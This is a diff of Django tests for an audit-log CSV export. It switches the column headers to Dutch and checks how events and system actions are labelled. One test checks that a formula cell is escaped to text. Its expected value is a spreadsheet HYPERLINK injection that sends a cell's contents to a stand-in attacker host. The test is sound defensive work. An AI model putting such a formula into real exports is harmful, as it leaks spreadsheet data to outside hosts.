@@ -29,9 +29,13 @@ def test_it_exports_the_filtered_rows_and_audits_the_export(client, privacy_offi
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv"
     rows = _csv(response)
-    assert [(row["actor"], row["event"], row["subject_reference"]) for row in rows] == [
+    assert [(row["Gebruiker"], row["Code gebeurtenis"], row["Kenmerk"]) for row in rows] == [
         ("anna", "intervention_viewed", intervention.reference)
     ] * 2
+    # In words for the privacy officer, the codes beside them.
+    assert {(row["Gebeurtenis"], row["Soort gegeven"], row["Code soort gegeven"]) for row in rows} == {
+        (str(Event.INTERVENTION_VIEWED.label), "Interventie", "interventions.intervention")
+    }
     export = AuditEvent.objects.get(event="audit_log_exported")
     assert export.actor == privacy_officer
     assert export.new == {"filters": {"event": "intervention_viewed", "actor": "anna"}, "count": 2}
@@ -71,4 +75,21 @@ def test_a_cell_that_would_run_as_a_formula_is_exported_as_text(client, privacy_
     )
 
     rows = _csv(response)
-    assert [row["actor"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1)']
+    assert [row["Gebruiker"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1)']
+
+
+def test_the_log_speaks_dutch_for_events_objects_and_the_system(client, privacy_officer, caseworker_a):
+    intervention = make_intervention(status="in_progress", professional=caseworker_a)
+    audit_record(actor=None, event=Event.INTERVENTION_VIEWED, subject=intervention)
+    client.force_login(privacy_officer)
+
+    page = client.get(reverse("audit:log")).content.decode()
+    rows = _csv(client.get(reverse("audit:export")))
+
+    assert "Kansrijk (automatisch)" in page and ">system<" not in page
+    assert "intervention_viewed" not in page.split("<tbody>")[1]
+    assert "interventions.intervention" not in page.split("<tbody>")[1]
+    assert f"Interventie {intervention.reference}" in page
+    system_rows = [row for row in rows if row["Code gebeurtenis"] == "intervention_viewed"]
+    assert [row["Gebruiker"] for row in system_rows] == ["Kansrijk (automatisch)"]
+    assert system_rows[0]["Gebeurtenis"] == str(Event.INTERVENTION_VIEWED.label)
